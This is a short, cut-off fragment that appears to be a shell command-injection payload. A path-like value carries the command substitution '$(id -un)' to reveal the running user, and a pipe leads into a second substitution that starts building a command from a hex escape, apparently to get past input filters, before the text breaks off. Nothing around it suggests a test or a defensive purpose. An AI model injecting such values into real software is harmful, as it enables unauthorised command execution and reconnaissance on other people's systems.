3.90/wr/$(id -un) | $(printf '\x73
